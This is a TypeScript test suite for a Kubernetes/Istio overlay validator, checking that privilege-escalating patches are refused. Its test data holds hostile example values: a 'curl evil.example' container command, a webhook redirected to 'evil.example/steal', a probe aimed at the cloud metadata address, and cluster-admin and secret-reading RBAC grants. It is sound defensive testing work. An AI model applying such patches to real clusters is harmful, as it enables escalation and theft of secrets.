import test from 'ava';
import fc from 'fast-check';
import { classicReleases } from '../../releases/classic/index.ts';
import type { ResolvedOverlay } from '../../releases/index.ts';
import type { KubeObject } from '../../runtime/object.ts';
import { applyOverlays, type OverlayProblem } from '../overlays.ts';
import { at } from '../testing.ts';
import { escalations, everything, everythingOf } from './testing.ts';

type Patch = NonNullable<ResolvedOverlay['patch']>;
type Change = Omit<ResolvedOverlay, 'target'>;

const latest = everythingOf('1.4.10');

const targets = {
	Pod: { kind: 'Deployment', name: 'istio-pilot' },
	Deployment: { kind: 'Deployment', name: 'istio-pilot' },
	Gateway: { kind: 'Deployment', name: 'istio-ingressgateway' },
	ClusterRole: { kind: 'ClusterRole', name: 'istio-pilot-istio-system' },
	ClusterRoleBinding: { kind: 'ClusterRoleBinding', name: 'istio-pilot-istio-system' },
	Role: { kind: 'Role', name: 'istio-pilot' },
	RoleBinding: { kind: 'RoleBinding', name: 'istio-pilot' },
	ServiceAccount: { kind: 'ServiceAccount', name: 'istio-pilot-service-account' },
	Service: { kind: 'Service', name: 'istio-pilot' },
	GatewayService: { kind: 'Service', name: 'istio-ingressgateway' },
	ConfigMap: { kind: 'ConfigMap', name: 'istio-sidecar-injector' },
	MeshConfig: { kind: 'ConfigMap', name: 'istio' },
	Webhook: { kind: 'MutatingWebhookConfiguration', name: 'istio-sidecar-injector-istio-system' },
	Namespace: { kind: 'Namespace', name: 'istio-system' },
	Autoscaler: { kind: 'HorizontalPodAutoscaler', name: 'istio-pilot' },
	Budget: { kind: 'PodDisruptionBudget', name: 'istio-pilot' },
	MeshPolicy: { kind: 'MeshPolicy', name: 'default' },
} as const;

type Target = keyof typeof targets;

function problemsOf(target: Target, change: Change): readonly OverlayProblem[] {
	const result = applyOverlays(latest, [{ target: targets[target], ...change }]);
	return result.ok ? [] : result.problems;
}

/** A change of a pod's spec. */
const pod = (spec: object): Change => ({ mergePatch: { spec: { template: { spec } } } });
const add = (path: string, value: unknown): Change => ({ patch: [{ op: 'add', path, value }] });
const replace = (path: string, value: unknown): Change => ({ patch: [{ op: 'replace', path, value }] });
const remove = (path: string): Change => ({ patch: [{ op: 'remove', path }] });
const volume = (value: object): Change => add('/spec/template/spec/volumes/-', { name: 'x', ...value });
const own = '/spec/template/spec/containers/0';
const template = at(
	latest.find(({ kind, metadata }) => kind === 'Deployment' && metadata.name === 'istio-pilot'),
	'spec',
	'template',
) as { readonly metadata: object; readonly spec: { readonly containers: readonly object[] } };
const [container] = template.spec.containers;

const volumeTypes = [
	'hostPath',
	'secret',
	'configMap',
	'projected',
	'csi',
	'nfs',
	'downwardAPI',
	'persistentVolumeClaim',
	'image',
	'ephemeral',
	'gitRepo',
] as const;

const refused: readonly (readonly [target: Target, names: RegExp, ...changes: readonly Change[]])[] = [
	['Pod', /serviceAccountName/, replace('/spec/template/spec/serviceAccountName', 'meshwright')],
	['Pod', /serviceAccount\b/, pod({ serviceAccount: 'meshwright' })],
	[
		'Pod',
		/hostNetwork/,
		pod({ hostNetwork: true }),
		replace('/spec/template/spec', { ...template.spec, hostNetwork: true }),
	],
	[
		'Pod',
		/hostPID/,
		pod({ hostPID: true }),
		replace('/spec/template', { ...template, spec: { ...template.spec, hostPID: true } }),
	],
	['Pod', /hostIPC/, pod({ hostIPC: true })],
	['Pod', /hostUsers/, pod({ hostUsers: true })],
	['Pod', /shareProcessNamespace/, pod({ shareProcessNamespace: true })],
	['Pod', /runtimeClassName/, pod({ runtimeClassName: 'unsafe' })],
	['Pod', /nodeName/, pod({ nodeName: 'control-plane' })],
	['Pod', /priorityClassName/, pod({ priorityClassName: 'system-node-critical' })],
	['Pod', /imagePullSecrets/, pod({ imagePullSecrets: [{ name: 'crown' }] })],
	[
		'Gateway',
		/automountServiceAccountToken/,
		pod({ automountServiceAccountToken: true }),
		remove('/spec/template/spec/automountServiceAccountToken'),
	],
	[
		'Pod',
		/add .*initContainers|change .*initContainers/,
		pod({ initContainers: [{ name: 'x', image: 'x', securityContext: { privileged: true } }] }),
	],
	['Pod', /ephemeralContainers/, pod({ ephemeralContainers: [{ name: 'x', image: 'x' }] })],
	[
		'Pod',
		/add spec\.template\.spec\.containers\[x\]/,
		add('/spec/template/spec/containers/-', { name: 'x', image: 'x' }),
	],
	['Pod', /containers/, add('/spec/template/spec/containers/0', container)],
	['Pod', /take away .*containers\[istio-proxy\]/, remove('/spec/template/spec/containers/1')],
	[
		'Pod',
		/add spec\.template\.spec\.volumes\[x\]/,
		...volumeTypes.flatMap((type) => [volume({ [type]: {} }), volume({ emptyDir: {}, [type]: {} })]),
	],
	[
		'Pod',
		/volumes/,
		replace('/spec/template/spec/volumes/0', { name: 'config-volume', hostPath: { path: '/' } }),
		replace('/spec/template/spec/volumes/0/configMap/name', 'other'),
	],
	[
		'Pod',
		/privileged/,
		add(`${own}/securityContext/privileged`, true),
		replace(own, { ...container, securityContext: { privileged: true } }),
	],
	[
		'Pod',
		/allowPrivilegeEscalation/,
		remove(`${own}/securityContext`),
		remove(`${own}/securityContext/allowPrivilegeEscalation`),
	],
	[
		'Pod',
		/capabilities/,
		add(`${own}/securityContext/capabilities/add`, ['SYS_ADMIN']),
		remove(`${own}/securityContext/capabilities/drop/0`),
		remove(`${own}/securityContext/capabilities`),
	],
	['Pod', /runAsUser/, add(`${own}/securityContext/runAsUser`, 0), pod({ securityContext: { runAsUser: 0 } })],
	[
		'Pod',
		/seccompProfile/,
		pod({ securityContext: { seccompProfile: { type: 'Unconfined' } } }),
		pod({ securityContext: null }),
		add(`${own}/securityContext/seccompProfile`, { type: 'Unconfined' }),
	],
	['Pod', /appArmorProfile/, pod({ securityContext: { appArmorProfile: { type: 'Unconfined' } } })],
	['Pod', /seLinuxOptions/, pod({ securityContext: { seLinuxOptions: { type: 'spc_t' } } })],
	['Pod', /sysctls/, pod({ securityContext: { sysctls: [{ name: 'kernel.msgmax', value: '1' }] } })],
	['Pod', /procMount/, add(`${own}/securityContext/procMount`, 'Unmasked')],
	['Pod', /ports/, add(`${own}/ports/0/hostPort`, 443)],
	['Pod', /command/, add(`${own}/command`, ['sh', '-c', 'curl evil.example'])],
	['Pod', /args/, add(`${own}/args/-`, '--kubeconfig=/evil'), replace(`${own}/args/0`, 'request')],
	[
		'Pod',
		/env/,
		add(`${own}/env/-`, { name: 'KUBECONFIG', value: '/evil' }),
		add(`${own}/envFrom`, [{ secretRef: { name: 'crown' } }]),
	],
	['Pod', /lifecycle/, add(`${own}/lifecycle`, { postStart: { exec: { command: ['sh'] } } })],
	[
		'Pod',
		/Probe/,
		add(`${own}/livenessProbe`, { exec: { command: ['sh'] } }),
		add(`${own}/readinessProbe/httpGet/host`, '169.254.169.254'),
	],
	[
		'Pod',
		/volumeMounts/,
		add(`${own}/volumeMounts/-`, { name: 'config-volume', mountPath: '/usr/local/bin', subPath: 'mesh' }),
		add(`${own}/volumeMounts/0/subPathExpr`, '$(X)'),
	],
	[
		'Pod',
		/labels/,
		add('/spec/template/metadata/labels/app.kubernetes.io~1name', 'meshwright'),
		add('/spec/template/metadata/labels/app', 'other'),
		add('/spec/template/metadata/labels/azure.workload.identity~1use', 'true'),
	],
	[
		'Pod',
		/annotations/,
		add('/spec/template/metadata/annotations/container.apparmor.security.beta.kubernetes.io~1discovery', 'unconfined'),
		remove('/spec/template/metadata/annotations/sidecar.istio.io~1inject'),
	],
	[
		'ClusterRole',
		/get secrets/,
		{ mergePatch: { rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }] } },
		add('/rules/-', { apiGroups: [''], resources: ['secrets'], verbs: ['get'] }),
		add('/rules/0', { apiGroups: [''], resources: ['secrets'], verbs: ['get'] }),
	],
	[
		'ClusterRole',
		/rules/,
		add('/rules/0/verbs/-', '*'),
		replace('/rules/0/resources', ['*']),
		replace('/rules', [{ apiGroups: [''], resources: ['pods'], verbs: [['get']] }]),
	],
	['ClusterRole', /get \/metrics/, add('/rules/-', { nonResourceURLs: ['/metrics'], verbs: ['get'] })],
	['ClusterRole', /aggregationRule/, add('/aggregationRule', { clusterRoleSelectors: [{}] })],
	['ClusterRole', /labels/, add('/metadata/labels/rbac.authorization.k8s.io~1aggregate-to-admin', 'true')],
	['Role', /rules/, replace('/rules', [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }])],
	[
		'ClusterRoleBinding',
		/subjects/,
		{ mergePatch: { subjects: [{ kind: 'ServiceAccount', name: 'tenant', namespace: 'tenant' }] } },
		add('/subjects/-', { kind: 'Group', name: 'system:authenticated' }),
		remove('/subjects/0'),
	],
	['RoleBinding', /roleRef/, { mergePatch: { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' } } }],
	[
		'ServiceAccount',
		/annotations/,
		add('/metadata/annotations', { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::1:role/admin' }),
	],
	[
		'ServiceAccount',
		/secrets|imagePullSecrets/,
		add('/secrets', [{ name: 'x' }]),
		add('/imagePullSecrets', [{ name: 'x' }]),
	],
	['ServiceAccount', /automountServiceAccountToken/, replace('/automountServiceAccountToken', true)],
	['Service', /externalIPs/, add('/spec/externalIPs', ['10.96.0.1'])],
	[
		'Service',
		/type|externalName/,
		{ mergePatch: { spec: { type: 'ExternalName', externalName: 'evil.example' } } },
		add('/spec/type', 'NodePort'),
	],
	['Service', /selector/, replace('/spec/selector', { app: 'victim' })],
	['Service', /loadBalancerIP/, add('/spec/loadBalancerIP', '192.0.2.1')],
	['Service', /ports/, add('/spec/ports/0/nodePort', 30_000)],
	['Service', /clusterIP/, add('/spec/clusterIP', '10.96.0.10')],
	[
		'ConfigMap',
		/data|binaryData/,
		replace('/data/config', 'policy: enabled'),
		add('/data/x', 'y'),
		add('/binaryData', { x: 'eA==' }),
		{ patch: [{ op: 'copy', from: '/data/values', path: '/data/config' }] },
	],
	['MeshConfig', /data/, replace('/data/mesh', 'x: y')],
	[
		'Webhook',
		/clientConfig/,
		replace('/webhooks/0/clientConfig', { url: 'https://evil.example/steal' }),
		replace('/webhooks/0/clientConfig/service/namespace', 'evil'),
	],
	[
		'Webhook',
		/rules/,
		replace('/webhooks/0/rules', [{ apiGroups: ['*'], apiVersions: ['*'], resources: ['*'], operations: ['*'] }]),
	],
	[
		'Webhook',
		/namespaceSelector/,
		replace('/webhooks/0/namespaceSelector', {}),
		remove('/webhooks/0/namespaceSelector'),
	],
	['Webhook', /objectSelector/, remove('/webhooks/1/objectSelector')],
	['Webhook', /failurePolicy/, add('/webhooks/0/failurePolicy', 'Ignore')],
	['Webhook', /matchConditions/, add('/webhooks/0/matchConditions', [{ name: 'x', expression: 'true' }])],
	['Webhook', /reinvocationPolicy/, replace('/webhooks/0/reinvocationPolicy', 'IfNeeded')],
	['Webhook', /add webhooks\[x\]/, add('/webhooks/-', { name: 'x' })],
	['Webhook', /webhooks/, replace('/webhooks', [])],
	['Webhook', /annotations/, add('/metadata/annotations', { 'cert-manager.io/inject-ca-from': 'a/b' })],
	['Namespace', /labels/, add('/metadata/labels/pod-security.kubernetes.io~1enforce', 'privileged')],
	['Autoscaler', /spec\.x/, add('/spec/x', {})],
	['Autoscaler', /maxReplicas/, replace('/spec/maxReplicas', 1_000_000)],
	['Budget', /selector/, replace('/spec/selector', {})],
	['MeshPolicy', /spec/, replace('/spec', { peers: [] })],
];

for (const [target, names, ...changes] of refused) {
	test(`refused of ${target}: ${names.source}`, (t) => {
		for (const change of changes) {
			const found = problemsOf(target, change);
			t.true(found.length > 0, JSON.stringify(change));
			for (const { path, reason, message, remedy } of found) {
				t.is(reason, 'OverlayNotAllowed', message);
				t.is(path, 'spec.overlays[0]');
				t.true(message.startsWith('spec.overlays[0] must not '), message);
				t.true(message.endsWith(` of ${targets[target].kind} ${targets[target].name}`), message);
				t.regex(remedy, /--overlays=unrestricted\.$/);
			}
			t.true(
				found.some(({ message }) => names.test(message)),
				JSON.stringify(found),
			);
			// The flag lifts it, and the judge agrees that it had to be lifted, where it knows the field.
			t.true(applyOverlays(latest, [{ target: targets[target], ...change }], 'unrestricted').ok);
		}
	});
}

const innocent: readonly (readonly [target: Target, change: Change])[] = [
	['Pod', pod({ terminationGracePeriodSeconds: 60, dnsConfig: { options: [] }, hostAliases: [], hostUsers: false })],
	['Pod', volume({ emptyDir: { sizeLimit: '1Gi' } })],
	[
		'Pod',
		{
			patch: [
				{ op: 'add', path: '/spec/template/spec/volumes/-', value: { name: 'x', emptyDir: {} } },
				{ op: 'add', path: `${own}/volumeMounts/-`, value: { name: 'x', mountPath: '/tmp' } },
			],
		},
	],
	['Pod', add(`${own}/securityContext/readOnlyRootFilesystem`, true)],
	['Pod', pod({ securityContext: { runAsNonRoot: true, runAsUser: 1337, fsGroup: 1337 } })],
	[
		'Pod',
		{
			mergePatch: {
				spec: {
					minReadySeconds: 5,
					template: { metadata: { labels: { team: 'mesh' }, annotations: { 'prometheus.io/scrape': 'true' } } },
				},
			},
		},
	],
	['Pod', replace(`${own}/resources`, { limits: { memory: '1Gi' } })],
	['Pod', replace(`${own}/readinessProbe/periodSeconds`, 10)],
	['Pod', replace(`${own}/image`, 'registry.example.com/pilot:1.4.10')],
	['Gateway', remove(`${own}/securityContext/capabilities/add`)],
	['ClusterRole', remove('/rules/0')],
	['ClusterRole', remove('/rules/0/verbs/0')],
	['Service', add('/metadata/annotations', { 'example.com/team': 'mesh' })],
	['Service', add('/spec/internalTrafficPolicy', 'Local')],
	['GatewayService', add('/spec/loadBalancerIP', '192.0.2.1')],
	['Webhook', replace('/webhooks/0/timeoutSeconds', 5)],
	['Autoscaler', { mergePatch: { spec: { maxReplicas: 20, behavior: { scaleUp: {} } } } }],
	['ConfigMap', { mergePatch: { metadata: { labels: { team: 'mesh' } } } }],
	['MeshPolicy', { mergePatch: { metadata: { annotations: { note: 'x' } } } }],
];

test('what gives nobody more rights goes on working', (t) => {
	for (const [target, change] of innocent) t.deepEqual(problemsOf(target, change), [], JSON.stringify(change));
});

test('the result counts, and no order of overlays and operations gets around it', (t) => {
	const target = targets.Pod;
	const there: Patch = [{ op: 'add', path: '/spec/template/spec/hostNetwork', value: true }];
	const back: Patch = [{ op: 'remove', path: '/spec/template/spec/hostNetwork' }];
	t.true(applyOverlays(latest, [{ target, patch: [...there, ...back] }]).ok);
	const result = applyOverlays(latest, [
		{ target, mergePatch: { spec: { minReadySeconds: 1 } } },
		{ target, patch: there },
		{ target, patch: [{ op: 'test', path: '/spec/minReadySeconds', value: 1 }] },
	]);
	t.deepEqual(!result.ok && result.problems.map(({ path, reason }) => `${path} ${reason}`), [
		'spec.overlays[1] OverlayNotAllowed',
	]);
});

test('the remedy names the field of the spec that does it', (t) => {
	t.regex(problemsOf('Pod', add(`${own}/args/-`, '--x'))[0]?.remedy ?? '', /^Use extraArgs/);
	t.regex(problemsOf('MeshConfig', replace('/data/mesh', 'x'))[0]?.remedy ?? '', /^Use the fields of spec\.mesh/);
});

test('a name that nobody should see as it is does not reach a message', (t) => {
	const [problem] = problemsOf('Pod', pod({ 'x\u001b[2J\u202e': 1 }));
	t.regex(problem?.message ?? '', /x\?\[2J\?/);
});

for (const { version } of classicReleases) {
	test(`${version}: everything that is rendered can be a target, and stays as it is by an empty patch`, (t) => {
		for (const { kind, metadata } of everythingOf(version)) {
			if (kind === 'Secret') continue;
			t.true(applyOverlays(everythingOf(version), [{ target: { kind, name: metadata.name }, mergePatch: {} }]).ok);
		}
	});
}

/** Every pointer into a value, its parents included. */
function pointersOf(value: unknown, path = ''): readonly string[] {
	if (typeof value !== 'object' || value === null) return [];
	return Object.entries(value).flatMap(([key, child]) => {
		const here = `${path}/${key.replaceAll('~', '~0').replaceAll('/', '~1')}`;
		return [here, ...pointersOf(child, here)];
	});
}

const valueAt = (object: unknown, pointer: string): unknown =>
	at(
		object,
		...pointer
			.slice(1)
			.split('/')
			.map((token) => token.replaceAll('~1', '/').replaceAll('~0', '~')),
	);

const values: readonly unknown[] = [
	true,
	false,
	0,
	1337,
	'x',
	'*',
	{},
	[],
	['*'],
	['ALL'],
	['SYS_ADMIN'],
	[{}],
	{ name: 'x', hostPath: { path: '/' } },
	{ name: 'x', emptyDir: {} },
	{ name: 'x', mountPath: '/tmp' },
	{ name: 'x', image: 'x', securityContext: { privileged: true } },
	{ privileged: true },
	{ type: 'Unconfined' },
	{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] },
	{ exec: { command: ['sh'] } },
	{ httpGet: { port: 1, host: 'x' } },
];
const names: readonly string[] = [
	'privileged',
	'hostNetwork',
	'hostPID',
	'hostUsers',
	'hostPort',
	'runAsUser',
	'command',
	'env',
	'volumes',
	'subjects',
	'serviceAccountName',
	'externalIPs',
	'type',
	'aggregationRule',
	'automountServiceAccountToken',
	'readinessProbe',
	'lifecycle',
	'readOnlyRootFilesystem',
	'timeoutSeconds',
	'minReadySeconds',
	'team',
	'-',
	'0',
];

/** Patches of one object: real places, real values, and words from attacks, mixed. */
function patches(object: KubeObject): fc.Arbitrary<Patch> {
	const place = fc.constantFrom(...pointersOf(object));
	const path = fc.oneof(
		place,
		fc.tuple(place, fc.constantFrom(...names)).map(([a, b]) => `${a}/${b}`),
	);
	const value = fc.oneof(
		fc.constantFrom(...values),
		place.map((pointer) => valueAt(object, pointer)),
	);
	const operation = fc.oneof(
		fc.record({ op: fc.constantFrom('add' as const, 'replace' as const), path, value }),
		fc.record({ op: fc.constant('remove' as const), path: place }),
		fc.record({ op: fc.constantFrom('copy' as const, 'move' as const), from: place, path }),
	);
	return fc.array(operation, { minLength: 1, maxLength: 3 });
}

test('whatever a patch does, the result is not more powerful than what is rendered', (t) => {
	const seen = { changed: 0, refused: 0 };
	const subject = fc
		.constantFrom(...everything.filter(({ kind }) => kind !== 'Secret'))
		.chain((object) => patches(object).map((patch) => ({ object, patch })));
	fc.assert(
		fc.property(subject, ({ object, patch }) => {
			const { kind, metadata } = object;
			const overlay = { target: { kind, name: metadata.name }, patch };
			const result = applyOverlays([object], [overlay]);
			if (!result.ok) {
				if (result.problems.some(({ reason }) => reason === 'OverlayNotAllowed')) seen.refused++;
				return true;
			}
			const [after] = result.objects;
			if (after !== undefined && JSON.stringify(after) !== JSON.stringify(object)) seen.changed++;
			const found = after === undefined ? ['it is gone'] : escalations(object, after);
			if (found.length > 0) throw new Error(found.join('; '));
			return true;
		}),
		{ numRuns: 4_000, seed: 10 },
	);
	// The patches reach both sides of the border.
	t.true(seen.changed > 100 && seen.refused > 500, JSON.stringify(seen));
});
